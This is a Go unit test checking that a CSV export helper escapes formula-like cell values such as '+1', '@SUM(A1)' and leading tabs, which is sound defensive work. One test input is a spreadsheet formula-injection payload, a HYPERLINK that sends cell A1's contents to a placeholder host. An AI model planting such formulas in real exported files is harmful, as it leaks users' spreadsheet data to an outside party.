package api

import "testing"

// TestCSVText: a name a spreadsheet would run as a formula is written as
// text; every other name as it is.
func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"点我")`: `'=HYPERLINK("http://x/?"&A1,"点我")`,
		"+1":                               "'+1",
		"-2+3":                             "'-2+3",
		"@SUM(A1)":                         "'@SUM(A1)",
		"\tx":                              "'\tx",
		"\rx":                              "'\rx",
		"经八路 01 网格":                        "经八路 01 网格",
		"410105001001":                     "410105001001",
		"":                                 "",
		"a=b":                              "a=b",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}
